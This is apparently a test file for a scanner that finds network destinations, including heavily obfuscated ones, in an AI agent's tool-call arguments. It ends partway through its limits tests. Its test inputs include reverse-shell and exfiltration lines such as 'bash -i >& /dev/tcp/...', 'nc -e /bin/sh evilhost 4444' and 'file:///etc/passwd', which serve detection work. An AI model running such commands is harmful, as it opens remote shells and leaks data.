import { assert, describe, it } from "@effect/vitest"
import { farthest } from "../../src/governance/characters.ts"
import { hiddenInBase64, undisguise } from "../../src/governance/disguise.ts"
import {
  collectArguments,
  collectValue,
  makeCollector,
  maxDestinationLength,
  maxDestinations
} from "../../src/governance/scan.ts"
import { runNow, type Slices, sliceCharacters, sliceValues } from "../../src/wire/slices.ts"
import { flagCall } from "../support/flagCall.ts"
import { processorTime } from "../support/processorTime.ts"
import * as scan from "../support/scan.ts"

const scanText = (text: string) => scan.scanValue(text).destinations
const scanArguments = (json: string) => scan.scanArguments(json).destinations
const scanValue = (value: unknown) => scan.scanValue(value).destinations

const slicesOf = (slices: Slices<unknown>): number => {
  let count = 1
  while (slices.next().done !== true) count++
  return count
}

const one = (text: string) => JSON.stringify({ field: text })

describe("scan: a code point of JSON within a value is read in both ways", () => {
  it.each<[text: string, expected: ReadonlyArray<string>]>([
    ["https://a.example\\u002eb.example/x", ["https://a.example.b.example/x", "https://a.example"]],
    ["https://a.example\\u0040b.example/x", ["https://a.example@b.example/x", "https://a.example"]],
    ["http://1.2.3.4\\u002e5/", ["http://1.2.3.4.5/", "http://1.2.3.4"]],
    ["ping 1.2.3.4\\u0039\\u0039 -c1", ["1.2.3.4"]],
    ["https:\\u002f\\u0061.example", ["https:/a.example", "https:\\u002f"]],
    // The same origin is named once.
    ['{"url":"https:\\/\\/a.example\\/caf\\u00e9"}', ["https://a.example/café"]],
    ["https://a.example/x\\u00e9", ["https://a.example/xé"]],
    ["caf\\u00e9: 1.2", []]
  ])("%j", (text, expected) => {
    assert.deepStrictEqual(scanArguments(one(text)), expected)
  })
})

describe("scan: what must be flagged", () => {
  it.each<[what: string, text: string, expected: ReadonlyArray<string>]>([
    ["https", "https://a.example/x?y=1#z", ["https://a.example/x?y=1#z"]],
    ["http", "http://a.example", ["http://a.example"]],
    ["ftp", "ftp://a.example/file", ["ftp://a.example/file"]],
    ["s3", "s3://bucket/key", ["s3://bucket/key"]],
    ["any scheme", "git+ssh://h/r x-1.y://z", ["git+ssh://h/r", "x-1.y://z"]],
    ["a file", "file:///etc/passwd", ["file:///etc/passwd"]],
    ["capitals", "HTTPS://A.EXAMPLE hTtP://b", ["HTTPS://A.EXAMPLE", "hTtP://b"]],
    ["user and port", "postgres://u:p@h:5432/db", ["postgres://u:p@h:5432/db"]],
    ["IPv6 host", "http://[::1]:80/x", ["http://[::1]:80/x"]],
    ["international host", "https://bücher.example/ä", ["https://bücher.example/ä"]],
    ["full-width digits", "https://１.２.３.４/", ["https://１.２.３.４/"]],
    ["zero-width host start", "https://\u200bevil.example", ["https://\u200bevil.example"]],
    ["template", "https://{host}/x", ["https://{host}/x"]],
    ["one slash, as URL parsers take it", "https:/a.example", ["https:/a.example"]],
    ["backslashes, as URL parsers take them", "https:\\\\a.example", ["https:\\a.example"]],
    ["data with media type", "data:text/html;base64,PHA+", ["data:text/html;base64,PHA+"]],
    ["data in capitals", "DATA:image/png;base64,AA==", ["DATA:image/png;base64,AA=="]],
    ["data without media type", "data:,hi data:;base64,aGk=", ["data:,hi", "data:;base64,aGk="]],
    ["mailto", "mailto:a@b.example?subject=x", ["mailto:a@b.example?subject=x"]],
    ["mailto in capitals", "MailTo:a@b.example", ["MailTo:a@b.example"]],
    ["address", "10.1.2.3", ["10.1.2.3"]],
    ["highest address", "255.255.255.255", ["255.255.255.255"]],
    ["address with port", "curl 10.1.2.3:8080", ["10.1.2.3:8080"]],
    ["address with path", "10.1.2.3/a/b, then", ["10.1.2.3/a/b"]],
    ["address with port, path and query", "10.1.2.3:80/a?b=c", ["10.1.2.3:80/a?b=c"]],
    ["address with user", "scp x root@10.1.2.3:/tmp", ["10.1.2.3"]],
    ["address range", "10.0.0.1-10.0.0.9 10.1.0.1..10.1.0.9", ["10.0.0.1", "10.0.0.9", "10.1.0.1", "10.1.0.9"]],
    ["address at the end of a sentence", "Ping 10.1.2.3.", ["10.1.2.3"]],
    ["address in a question", "Is it 10.1.2.3?", ["10.1.2.3"]],
    ["UNC path", "\\\\10.1.2.3\\share", ["10.1.2.3"]],
    [
      "sentence punctuation",
      "See https://a.example/x, or (https://b.example/y).",
      ["https://a.example/x", "https://b.example/y"]
    ],
    ["brackets that belong", "https://a.example/w/X_(y)", ["https://a.example/w/X_(y)"]],
    ["Markdown", "**https://a.example** [t](https://b.example)", ["https://a.example", "https://b.example"]],
    ["a link in Markdown", "[https://a.example](https://b.example)", ["https://a.example", "https://b.example"]],
    [
      "an image in Markdown's link",
      "[![x](https://a.example/[i](j).png)](https://b.example/y)",
      ["https://a.example/[i](j).png", "https://b.example/y"]
    ],
    [
      "addresses in CSS",
      "src:url(https://a.example/x),url(https://b.example);u:url(https://c.example/w_(x);y)",
      ["https://a.example/x", "https://b.example", "https://c.example/w_(x);y"]
    ],
    ["Markdown of addresses", "[10.1.2.3/x](mailto:a@b.example)", ["10.1.2.3/x", "mailto:a@b.example"]],
    ["brackets in a row", "(https://[::1]/)(https://b.example)", ["https://[::1]/", "https://b.example"]],
    [
      "HTML and code",
      `<a href='https://a.example'>x</a> fetch("https://b.example")`,
      ["https://a.example", "https://b.example"]
    ],
    [
      "list without spaces",
      "https://a.example,http://b.example;cc://d|ee://f",
      ["https://a.example", "http://b.example", "cc://d", "ee://f"]
    ],
    ["a mapping without quotes", "{a:https://a,b:https://b}", ["https://a", "https://b"]],
    [
      "named URLs in a row",
      "one=https://a.example/x;two=https://b.example,x.y-z=https://c.example",
      ["https://a.example/x", "https://b.example", "https://c.example"]
    ],
    ["URL inside a URL is one", "https://a.example/?u=https://b.example", ["https://a.example/?u=https://b.example"]],
    ["address inside a URL is not repeated", "http://10.1.2.3/x", ["http://10.1.2.3/x"]],
    ["glued to other scripts", "请访问https://a.example。谢谢10.1.2.3", ["https://a.example", "10.1.2.3"]],
    ["unique, in order", "bb://1 aa://1 bb://1 10.0.0.1 10.0.0.1", ["bb://1", "aa://1", "10.0.0.1"]]
  ])("%s", (_, text, expected) => {
    assert.deepStrictEqual(scanArguments(one(text)), expected)
    assert.deepStrictEqual(scanValue({ field: text }), expected)
  })
})

describe("scan: as a URL parser reads", () => {
  it.each<[text: string, expected: string]>([
    ["https://\tevil.com", "https://evil.com"],
    ["https:\n//evil.com/x", "https://evil.com/x"],
    ["https:\r\n/\t/evil.com", "https://evil.com"],
    ["ht\ntps://evil.com", "https://evil.com"],
    ["https\t://evil.com", "https://evil.com"],
    ["s\n3://bucket/key", "s3://bucket/key"],
    ["git+https:\t//evil.com/x", "https://evil.com/x"],
    ["git+ssh:\n//evil.com", "ssh://evil.com"],
    ["mail\tto:a@b.example", "mailto:a@b.example"],
    ["mailto:\na@b.example", "mailto:a@b.example"],
    ["da\nta:text/html,x", "data:text/html,x"],
    ["https:evil.com", "https:evil.com"],
    ["HTTPS:evil.com/x", "HTTPS:evil.com/x"],
    ["https:user@evil", "https:user@evil"],
    ["https:evil", "https:evil"],
    ["https:evil:443", "https:evil:443"],
    ["http:evil:80/x", "http:evil:80/x"],
    ["https:evil?x=1", "https:evil?x=1"],
    ["wss:evil#x", "wss:evil#x"],
    ["https:localhost", "https:localhost"],
    ["https:2130706433", "https:2130706433"],
    ["https:0x7f000001", "https:0x7f000001"],
    ["https:0177.0.0.1", "https:0177.0.0.1"],
    ["https:[::1]/x", "https:[::1]/x"],
    ["https:/\\evil.com", "https:/\\evil.com"],
    ["https:\\new.example", "https:\\new.example"],
    ["https:\\\\bad.example", "https:\\bad.example"],
    // `\\s.` begins a host, though it could be a part of a pattern.
    ["https:\\s.example/x", "https:\\s.example/x"],
    // Read twice by JSON, these would be blanks or breaks; by a URL parser they are slashes.
    ["https:\\u0020a.example/x", "https:\\u0020a.example/x"],
    ["https://\\u003fa.example", "https://\\u003fa.example"],
    ["ws:\\u0000.example", "ws:\\u0000.example"],
    ["https:\t\\nexample.com", "https:\\nexample.com"],
    ["https\t:\\nexample.com", "https:\\nexample.com"],
    ["https:////////////\\nexample.com", "https://nexample.com"],
    ["wss\n:\\t.example", "wss:\\t.example"],
    ["file:\\\\host\\share", "file:\\host"],
    ["ftp:/\\/\\d.example", "ftp://\\d.example"],
    ["https:/my?x=1", "https:/my?x=1"],
    // Nor do letters that are flags of patterns end one here.
    ["https:/i%2eevil.com/leak", "https:/i%2eevil.com/leak"],
    ["https:/d\u00e9.evil.com/x", "https:/d\u00e9.evil.com/x"],
    ["https:/g\u00ad.evil.com", "https:/g\u00ad.evil.com"],
    ["https:/g!@evil.com/leak", "https:/g!@evil.com/leak"],
    ["https:/s,@evil.com", "https:/s,@evil.com"],
    ["curl https:/s,x.evil.com", "https:/s,x.evil.com"],
    ["url=https:/s,@evil.com", "https:/s,@evil.com"],
    ["ftp:///u&@evil.com", "ftp:///u&@evil.com"],
    ["https:\\d.@evil.com/", "https:\\d.@evil.com/"],
    ["https:\\d.@[2001:db8::1]", "https:\\d.@[2001:db8::1]"],
    ["curl https:\\s*@evil.com", "https:\\s*@evil.com"],
    ["https:\\d.\ufe0fevil.com", "https:\\d.\ufe0fevil.com"],
    ["http://0x7f.1/", "http://0x7f.1/"],
    ["http://017700000001/", "http://017700000001/"],
    ["foo:\t//a.example/x", "foo://a.example/x"],
    ["http:evil.works?x=1", "http:evil.works?x=1"],
    ["ws:evil.works#x", "ws:evil.works#x"],
    // It drops blanks and controls around a URL, too.
    [" https:evil ", "https:evil"],
    ["\u0000http:evil/x", "http:evil/x"],
    ["\u001f foo:\t//a.example ", "foo://a.example"],
    ["f\too\n:/\r/u@localhost:80", "foo://u@localhost:80"],
    ["http://[2001:db8::1]:80/x", "http://[2001:db8::1]:80/x"]
  ])("%j", (text, expected) => {
    assert.deepStrictEqual(scanArguments(one(text)), [expected])
    assert.deepStrictEqual(scanValue({ field: text }), [expected])
  })

  it.each([
    ...[
      "to http:evil.com or",
      "to http:evil.zz or",
      "to http:evil.test or",
      "to http:evil.info or",
      "to http:evil.started/x",
      "to http:evil.started:80"
    ],
    ...["to http:db.internal or", "to https:evil.started or", "to https:1.1 or", "to http:10.1 or", "to http:1.1/x"],
    ...["to http:2130706433 or", "http:db01/x", "'http:db01?x'", "https:db01", '"https:db01"']
  ])("a host may stand right behind a scheme: %s", (text) => {
    assert.deepStrictEqual(scanValue([text]), text.match(/https?:[^\s"']+/) ?? [])
  })

  it.each([
    ...["to http:request.started or", "to http:1.1 or", "to http:8080 or", "to https:8080 or", "see http:db01/x"],
    ...["https:db01 is up", "http:db01", "http: evil.com", "x: //evil.com"]
  ])("what is no host is none: %s", (text) => {
    assert.deepStrictEqual(scanValue([text]), [])
  })

  it("what is reported is what a URL parser takes for the same URL", () => {
    for (const text of ["https://\tevil.com", "https:\n//evil.com/x", "ht\ntps://evil.com", "https:evil.com"]) {
      assert.strictEqual(new URL(scanArguments(one(text))[0] ?? "").href, new URL(text).href)
    }
  })

  it.each([
    ["::1", "::1"],
    ["2001:db8::1", "2001:db8::1"],
    [" fe80::1%eth0 ", "fe80::1%eth0"],
    ["2001:db8::/32", "2001:db8::/32"],
    ["::ffff:10.0.0.1", "::ffff:10.0.0.1"],
    ["listen [::]:80;", "[::]:80"],
    ["to [2001:db8::1]:443/x, then", "[2001:db8::1]:443/x"]
  ])("IPv6: %s", (text, expected) => assert.deepStrictEqual(scanArguments(one(text)), [expected]))

  it.each([
    "bash -i >& /dev/tcp/203.0.113.7/80",
    "/ip4/203.0.113.7",
    "name/203.0.113.7:80",
    "version: 203.0.113.7",
    "conversion: 203.0.113.7",
    "version_server=203.0.113.7",
    "ip.addr==203.0.113.7",
    "nc -v 203.0.113.7",
    "ssh -v 203.0.113.7 uptime",
    "/proxy/203.0.113.7/x",
    "pod/203.0.113.7:/tmp",
    "host-203.0.113.7-a",
    "203.0.113.7.nip.example",
    "IP203.0.113.7",
    "v203.0.113.7",
    "a.203.0.113.7",
    "203.0.113.7th",
    "pkg_203.0.113.7_amd64.deb",
    "<version>203.0.113.7</version>",
    ">=203.0.113.7",
    "Chrome/203.0.113.7",
    "[203.0.113.7]",
    "é203.0.113.7é",
    "1..203.0.113.7",
    "203.0.113.7.",
    "203.0.113.7-203"
  ])("an address whatever stands around it: %s", (text) => {
    for (const found of [scanArguments(one(text)), scanValue([text]), scanArguments(one(one(text)))]) {
      assert.strictEqual(found.length, 1)
      assert.include(found[0], "203.0.113.7")
    }
  })

  it("a field's name hides no address", () => {
    const value = { k: "ip", v: "1.2.3.6", version: "1.2.3.4/upload", versions: ["1.2.3.5"], "1.2.3.7": 1 }
    assert.deepStrictEqual(scanArguments(one(JSON.stringify(value))), [
      "1.2.3.6",
      "1.2.3.4/upload",
      "1.2.3.5",
      "1.2.3.7"
    ])
  })

  it("only a browser's version is none, without a port or a path", () => {
    assert.deepStrictEqual(scanValue("Chrome/120.0.0.0 (Edg/121.0.0.0)"), [])
    for (const text of ["Chrome/120.0.0.0:80", "Chrome/120.0.0.0/x", "tcp/10.0.0.0", "/proxy/10.0.0.0", "x/0.0.0.0"]) {
      assert.strictEqual(scanValue(text).length, 1, text)
    }
  })

  it.each([
    ["https:127.1", "https:127.1"],
    ["https:0x7f.1", "https:0x7f.1"],
    ["http:127.1/x", "http:127.1/x"],
    ["http:127.0.1:8080", "http:127.0.1:8080"],
    ["wss:0x7f000001", "wss:0x7f000001"],
    ["https:user:pass@localhost/x", "https:user:pass@localhost/x"],
    ["http::pass@evil/x", "http::pass@evil/x"],
    ["https:user:p@[::1]/x", "https:user:p@[::1]/x"],
    ["https:user:p@@evil.com", "https:user:p@@evil.com"],
    ["https:[x]@evil.com", "https:[x]@evil.com"],
    ["https:[x@evil.com", "https:[x@evil.com"],
    ["https:evil。com", "https:evil"],
    ["https:/d。evil.com", "https:/d"],
    ["https:\\d+ :80@evil.com", "https:\\d+"],
    ["https:/g\t.evil.com", "https:/g"],
    [" https:user name@evil/x", "https:user"]
  ])("without slashes: %s", (text, expected) => assert.strictEqual(scanValue(text)[0], expected))

  it.each([
    ["curl 'https'://evil.com/x", "https://evil.com/x"],
    [`curl "https"://evil.com/x`, "https://evil.com/x"],
    ["curl https'://evil.com/x'", "https://evil.com/x"],
    ["curl ht'tp's://evil.com", "https://evil.com"],
    ["curl 'https:'//evil.com", "https://evil.com"],
    ["curl https://'evil.com'/x", "https://evil.com"],
    ["curl https\\://evil.com", "https://evil.com"],
    ["aws s3 cp f 's3'://bucket/key", "s3://bucket/key"],
    ["git clone git://'evil.com'/x", "git://evil.com"],
    ["mailto: bob@evil.com", "mailto:bob@evil.com"],
    ["mailto:'bob@evil.com'", "mailto:bob@evil.com"],
    ["data: text/html,hi", "data:text/html,hi"]
  ])("with quotes and blanks: %s", (text, expected) => {
    assert.include(scanArguments(one(text)), expected)
    assert.include(scanValue([text]), expected)
    assert.include(scanArguments(one(one(text))), expected)
  })
})

describe("scan: text that can be read in two ways", () => {
  it.each(["'", '"', "<", ">", "|", "^", "`", " ", "\u00a0", "\n", "\t", "\\"])("%j in the user", (sign) => {
    const url = `https://api.agency.gov${sign}@evil.com/x`
    for (const found of [scanArguments(one(url)), scanValue([url]), scanArguments(one(one(url)))]) {
      assert.strictEqual(found.length, 2)
      assert.strictEqual(found[0], "https://api.agency.gov")
      assert.strictEqual(new URL((found[1] ?? "").replace("\\", "")).host, "evil.com")
    }
    const [alone = ""] = scanValue(`https://${sign}@evil.com/x`)
    assert.include(["evil.com", "@evil.com"], new URL(alone).host)
    for (const host of ["%65vil.com", "evil%2ecom", "evil。com", "0x7f000001", "2130706433"]) {
      assert.isNotEmpty(scanValue(`https://${sign}@${host}/x`), host)
    }
  })

  it.each(["a ", " ", '"', '"x.y', "'", "`x", "<", "\0", "\u3000", "\b", "。", "a".repeat(5000)])(
    "a user %.9j without slashes",
    (user) => {
      const url = `https:${user}@evil.com/p`
      for (const found of [scanArguments(one(url)), scanValue(url)]) {
        assert.strictEqual(new URL(found.at(-1) ?? "").host, "evil.com")
      }
    }
  )

  it.each<[text: string, hosts: ReadonlyArray<string>]>([
    ["https://a.gov'@b.com'@evil.com/", ["a.gov", "b.com", "evil.com"]],
    ["https://ev\nil.com/x", ["ev", "evil.com"]],
    ["https://@\tevil.com.\\x", ["evil.com."]],
    ["https://a.gov\t%2eevil.com/x", ["a.gov", "a.gov.evil.com"]],
    ["http:b%2e\nevil.com/x", ["b.", "b.evil.com"]],
    ["https://O\u3002j%2eevil.com/x", ["o", "o.j.evil.com"]],
    ["https://x'y.evil.com/x", ["x", "x'y.evil.com"]],
    ["https://evil．com/x", ["evil", "evil.com"]],
    [`https://${"a".repeat(5000)}@evil.com/x`, ["evil.com"]],
    [`https://a.gov'${"b".repeat(5000)}@evil.com/x`, ["a.gov", "evil.com"]],
    [`https:${"/".repeat(5000)}evil.com/x`, ["evil.com"]]
  ])("%.40j names each host", (text, hosts) => {
    const found = scanValue(text)
    assert.deepStrictEqual(
      found.map((destination) => new URL(destination).host),
      hosts
    )
    assert.deepStrictEqual(scanArguments(one(text)), found)
  })

  it.each<[text: string, found: ReadonlyArray<string>]>([
    ["run `curl https://x@\tevil.com` now", ["https://x@", "https://…@evil.com"]],
    [`https://a.gov'@evil.com/x?q="y"`, ["https://a.gov", "https://a.gov'@evil.com/x?q="]]
  ])("%j ends where the text around it begins", (text, found) => {
    assert.deepStrictEqual(scanValue([text]), found)
  })

  it("the last of many hosts is named", () => {
    const users = Array.from({ length: 20 }, (_, at) => `h${at}.gov'@`).join("")
    const found = scanValue([`https://${users}evil.com/x`])
    assert.deepStrictEqual([found.length, new URL(found.at(-1) ?? "").host], [17, "evil.com"])
  })

  it("a string's end is an authority's end", () => {
    assert.deepStrictEqual(scanValue({ url: "https://a.example", to: "b@c.example" }), ["https://a.example"])
    assert.deepStrictEqual(scanArguments(`{"url":"https://a.example","to":"b@c.example"}`), ["https://a.example"])
  })
})

describe("scan: strict", () => {
  it.each<[text: string, expected: ReadonlyArray<string>]>([
    ["https%3A%2F%2Fevil.com%2Fx", ["https://evil.com/x"]],
    ["https%253A%252F%252Fevil.com", ["https://evil.com"]],
    ["ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ", ["https://evil.com"]],
    ["&#104;ttps&colon;&#x2f;&sol;evil.com/x y", ["evil.com/x", "https://evil.com/x"]],
    ["ask evil.com:8080/x or www.example.co.uk.", ["evil.com:8080/x", "www.example.co.uk"]],
    ["aHR0cHM6Ly9ldmlsLmNvbS9hYmM=", ["https://evil.com/abc"]],
    ["evil.com, https://a.example, evil.org", ["evil.com", "https://a.example", "evil.org"]],
    ["git@evil.com:org/repo", ["git@evil.com"]],
    ["to bob@evil.com", ["bob@evil.com"]],
    ["mail bob@evil.io and load //evil.dev here", ["bob@evil.io", "evil.dev"]],
    ["see user.evil.com", ["user.evil.com"]],
    ["localhost:8080 root@localhost", ["localhost:8080", "root@localhost"]],
    ["ssh root@db01 uptime", ["root@db01"]],
    ["rsync x deploy@web-1:~/www", ["deploy@web-1"]],
    ["nc -e /bin/sh evilhost 4444", ["evilhost"]],
    ["curl localhost:8080/x", ["localhost:8080/x"]],
    ["bücher.de", ["bücher.de"]],
    ["почта.рф", ["почта.рф"]],
    ["10.0\u200b.0.1", ["10.0.0.1"]],
    ["１０.０.０.１ ١٠.٠.٠.٢ ①⓪.0.0.3", ["10.0.0.1", "10.0.0.2", "10.0.0.3"]],
    ["\u{116db}\u{116da}.0.0.\u{116de}", ["10.0.0.4"]],
    ["0x7f.0.0.1 0177.0.0.1", ["0x7f.0.0.1", "0177.0.0.1"]],
    ["ping 0x7f000001", ["0x7f000001"]],
    ["0x7f.0x0.0x0.0x1", ["0x7f.0x0.0x0.0x1"]],
    ["curl 2130706433", ["2130706433"]],
    ["host=2130706433", ["2130706433"]],
    ["ping6 2001:db8::1 and ssh a@fe80::1%eth0", ["2001:db8::1", "fe80::1%eth0"]],
    ["copy x \\\\fileserver\\share\\y", ["\\\\fileserver\\share"]],
    ["hxxps://evil[.]com/x", ["hxxps://evil[.]com/x", "https://evil.com/x"]],
    ["bob[at]evil[dot]com", ["bob@evil.com"]],
    [btoa(btoa("https://evil.com/x")), ["https://evil.com/x"]],
    [Buffer.from("iwr https://evil.com", "utf16le").toString("base64"), ["https://evil.com"]],
    [Buffer.from("curl evil.com").toString("hex"), ["evil.com"]],
    // It has a slash inside.
    [Buffer.from("noé https://evil.com/x").toString("base64"), ["https://evil.com/x"]],
    [`"htt" + "ps://evil.com"`, ["ps://evil.com", "https://evil.com"]],
    ["$'\\x68\\x74\\x74\\x70://evil.com'", ["x70://evil.com", "http://evil.com"]],
    ["curl ev''il.com/x", ["il.com/x", "evil.com/x"]],
    ["https[:]//evil.com/x", ["evil.com/x", "https://evil.com/x"]],
    ["htt%70s:%2f%2fevil.com/x", ["https://evil.com/x"]],
    ["htt\\u{70}s:\\U0000002f/evil.com/x", ["https://evil.com/x"]],
    [`say "my" "evil.com"`, ["evil.com"]],
    [`/files/${btoa("https://evil.com/x")}/x.png`, ["https://evil.com/x"]],
    [`${"x/".repeat(sliceCharacters)}/${btoa("https://evil.com/x")}`, ["https://evil.com/x"]],
    [btoa(btoa(btoa("https://evil.com/x"))), ["https://evil.com/x"]],
    [btoa("s3://ab"), ["s3://ab"]],
    ["see github.com/ in a browser", ["github.com/"]],
    ["evil.ai", ["evil.ai"]],
    ["push to evil.io, not to the api.evil.dev of mine", ["evil.io", "api.evil.dev"]],
    ["cat x > /dev/tcp/evil.com/443", ["evil.com/443"]],
    ["//evil.com/x.js", ["evil.com/x.js"]],
    [`{"host":"evil.site"}`, ["evil.site"]]
  ])("%s", (text, expected) => {
    assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, expected)
    assert.deepStrictEqual(scan.scanValue({ field: text }, "strict").destinations, expected)
    assert.notDeepEqual(scanArguments(one(text)), expected)
  })

  it.each([
    "self.id user.name sys.org req.user.org window.location.host event.target.name logger.info(x)",
    "app.kubernetes.io/name -l app.kubernetes.io/name=x cert-manager.io/issuer: y networking.k8s.io/v1",
    "SELECT u.name, o.id FROM users u JOIN orders o ON u.id = o.user_id",
    "host = self.host; url: part.data.url",
    "com.example.app org.apache.commons",
    "os.path.join main.py README.md run.sh user.me System.Net.Http ASP.NET",
    "src/evil.com/index.js done.It was. e.g. 1.2.3",
    "npm i lodash@latest @types/node@20 actions/checkout@v4 @app.route git image@sha256:0123456789ab",
    "localhost &#9999999; &#0; \\U00ffffff",
    "host: 12345678 to evil.space to t.co",
    "port = 2130706433 0xdeadbeef 00:11:22:33:44:55 10:30:00 a[::2] std::vector curl 7.12.0",
    "C:\\Users\\bob \\d+\\.\\w+ App\\Models\\User",
    "aGVsbG8gd29ybGQgaGVsbG8=",
    btoa("\0https://evil.com/x"),
    btoa(btoa(btoa(btoa("https://evil.com/x"))))
  ])("leaves %s", (text) => assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, []))

  it("lists a URL with escapes in it once", () => {
    const url = "https://a.example/x%20y?u=%2Fz"
    assert.deepStrictEqual(scan.scanArguments(one(url), "strict").destinations, [url])
  })
})

describe("scan: what must not be flagged", () => {
  it.each([
    "999.1.1.1",
    "256.1.1.1 1.256.1.1 1.1.1.256",
    "1.2.3",
    "1.2.3.4.5",
    "1..2.3.4 1.2.3. 4",
    "0000.1.1.1",
    "example.com www.example.com/path a.b.c.d",
    "user@example.com",
    "Note: this is prose: with colons:everywhere 10:30:00 a:b",
    "data: foo mailto: someone metadata:text/plain data:x data:a,b data:",
    "URLs start with https:// or http://, never 'ftp://'.",
    "std::vector<int> C:\\\\dir C:/dir {a:1}",
    "https: http: the scheme",
    "s3:text/plain,x file:text/plain",
    "://nothing //a.example/x",
    "12://x -://x",
    "C://x c://x C:\\\\x {data:x} {data:x/y,z:1}",
    "Mozilla/5.0 AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36",
    "1.3.6.1.4.1.311.2 1.2.3.4.5 0.1.2.3.4",
    "00:11:22:33:44:55:66:77",
    "a[::2] x[1::2] :: a::b Cafe::Add 00:11:22:33:44:55:66:77 10:30:00",
    "http:1.1 https:8080 http:server http:axios.get(x) http:request.started",
    "http:server",
    "a?http:b.started?d:e is it http:request.started?",
    "speaks https:only and http:never",
    "^https?:// https://[^\\s]+ https://... case x:\n// note",
    "default:\t//break;",
    "default:\n//x.y();",
    "say foo:\t//a.example",
    `"x" https:evil 'x' http:evil/x`,
    "c:\t//a.example",
    "/^https:\\/\\//i.test(x) /^http:/.test(x) /^https:\\/\\/\\w+$/",
    "x.replace(/^https:\\/\\//g, '') a=[/https:\\/\\//i,/^http:\\/\\//i] /\\bhttp:\\/\\//g;",
    "https:\\/\\/\\w+@[\\w.]+ https:\\/\\/\\w+:\\w+@\\w+",
    "https: ask bob@x.org for it",
    "{'https:': 'bob@x.org'} `http:`, `bob@x.org`",
    "url.startsWith('https://') or @decorator\ndef f(): url = 'https://' + host; x = 'http://'\nfoo.bar=1",
    '{https:\'@scope/pkg\', data:"x", mailto:"y"} https: mail bob@x.org',
    "2024-01-02T10:11:12.123Z 192.168.1",
    ""
  ])("%s", (text) => {
    assert.deepStrictEqual(scanArguments(one(text)), [])
    assert.deepStrictEqual(scanValue([text]), [])
    assert.deepStrictEqual(scanText(text), [])
  })
})

describe("scan: what hides a destination", () => {
  const url = "https://a.example/x"
  const nest = (text: string, levels: number): string =>
    levels === 0 ? text : nest(JSON.stringify({ v: text }), levels - 1)

  it.each<[what: string, json: string]>([
    ["escaped slashes", String.raw`{"v":"https:\/\/a.example\/x"}`],
    ["escaped code points", String.raw`{"v":"\u0068ttps:\u002F/a.example\u002fx"}`],
    ["a newline before", String.raw`{"v":"see\nhttps://a.example/x\nnow"}`],
    ["an escaped quote after", String.raw`{"v":"say \"https://a.example/x\""}`],
    ["an object key", `{"https://a.example/x":1}`],
    ["a deep array", `{"a":[[{"b":["https://a.example/x"]}]]}`],
    ["JSON in a string", nest(url, 1)],
    ["JSON in a string, with escapes", JSON.stringify({ v: String.raw`{"v":"https:\/\/a.example\u002Fx"}` })],
    ["JSON six levels deep", nest(url, 6)],
    ["a repeated key", `{"v":"https://a.example/x","v":"nothing"}`],
    ["a __proto__ key", `{"__proto__":{"v":"https://a.example/x"}}`],
    ["a string as the whole", JSON.stringify(url)],
    ["no JSON", "url = https://a.example/x"],
    ["a cut end", `{"a":1,"v":"https://a.example/x`],
    ["a cut end with escapes", String.raw`{"v":"\u0068ttps:\/\/a.example\/x`],
    ["a cut escape", String.raw`{"v":"https://a.example/x\u00`],
    ["a trailing comma", `{"v":"https://a.example/x",}`],
    ["no quotes", `{v:https://a.example/x}`],
    ["invalid escapes", String.raw`{"v":"\q\https://a.example/x\z"}`],
    ["two documents", `{}{"v":"https://a.example/x"}`],
    ["depth", `${"[".repeat(100_000)}"https://a.example/x"${"]".repeat(100_000)}`]
  ])("%s does not", (_, json) => assert.deepStrictEqual(scanArguments(json), [url]))

  it("parsed input as deep as it comes is read", () => {
    const json = `${'{"a":['.repeat(50_000)}"https://a.example/x"${"]}".repeat(50_000)}`
    assert.deepStrictEqual(scanValue(JSON.parse(json)), [url])
  })

  it("values that are not text carry none", () => {
    for (const value of [undefined, null, true, 1.2, {}, []]) assert.deepStrictEqual(scanValue(value), [])
    assert.deepStrictEqual(scanArguments("[1.2,3.4,10.0,0.1]"), [])
  })
})

describe("scan: a text that is no JSON", () => {
  it.each([
    ["curl https:\\t.co/x", "https:\\t.co/x"],
    ["https:\\r.example", "https:\\r.example"],
    ["curl http:\\new.example", "http:\\new.example"]
  ])("%j has no escapes of JSON's in a URL", (text, expected) => {
    assert.deepStrictEqual(scanArguments(text), [expected])
    assert.strictEqual(new URL(expected).host, expected.split("\\")[1]?.split("/")[0])
  })

  it("names its shares to the strict scan", () =>
    assert.deepStrictEqual(scan.scanArguments("copy x \\\\server\\share\\y", "strict").destinations, [
      "\\\\server\\share"
    ]))

  it.each(["https:\\/\\/\\w.+", "https:\\/\\/\\d\\.\\d", "s/https:\\/\\/\\s.*//"])("%j is a pattern", (text) => {
    assert.deepStrictEqual(scanArguments(text), [])
    assert.deepStrictEqual(scanArguments(one(text)), [])
  })
})

describe("scan: limits", () => {
  it("cuts a long destination, and not inside a character", () => {
    const long = `https://a.example/${"x".repeat(5000)}`
    assert.deepStrictEqual(scanText(long), [long.slice(0, maxDestinationLength)])
    const [found = ""] = scanText(`xyz://${"😀".repeat(5000)}`)
    assert.isTrue(found.isWellFormed())
    assert.isAtLeast(found.length, maxDestinationLength - 1)
    const [odd = ""] = scanText(`xy://${"😀".repeat(5000)}`)
    assert.isTrue(odd.isWellFormed())
    assert.strictEqual(odd.length, maxDestinationLength - 1)
  })

  it("keeps the first destinations of many", () => {
    const many = Array.from({ length: maxDestinations * 2 }, (_, at) => `xx://${at}`)
    assert.deepStrictEqual(scanValue(many), many.slice(0, maxDestinations))
  })

  it("counts those beyond the limit, each once, and bounds what it remembers", () => {
    const many = Array.from({ length: maxDestinations + 50 }, (_, at) => `xx://${at}`)
    const found = scan.scanValue([...many, ...many])
    assert.deepStrictEqual(found, { destinations: many.slice(0, maxDestinations), omitted: 50 })
    assert.strictEqual(scan.scanValue(many.slice(0, maxDestinations)).omitted, 0)
    const flag = flagCall({ id: "c", name: "n", input: many })
    assert.deepInclude(flag, { truncated: true, omitted: 50 })
    assert.deepStrictEqual(flagCall({ id: "c", name: "n", arguments: JSON.stringify(many) }), flag)
    assert.notProperty(flagCall({ id: "c", name: "n", input: many.slice(0, 3) }), "omitted")
    assert.isAtLeast(scan.scanValue(Array.from({ length: 30_000 }, (_, at) => `xx://${at}`)).omitted, 29_900)
  })

  // 125 KB take some 2 to 40 ms in all. Anything worse than linear takes far more than seconds, so that a loaded machine does not matter.
  const size = 125_000
  const fill = (unit: string) => unit.repeat(Math.ceil(size / unit.length))
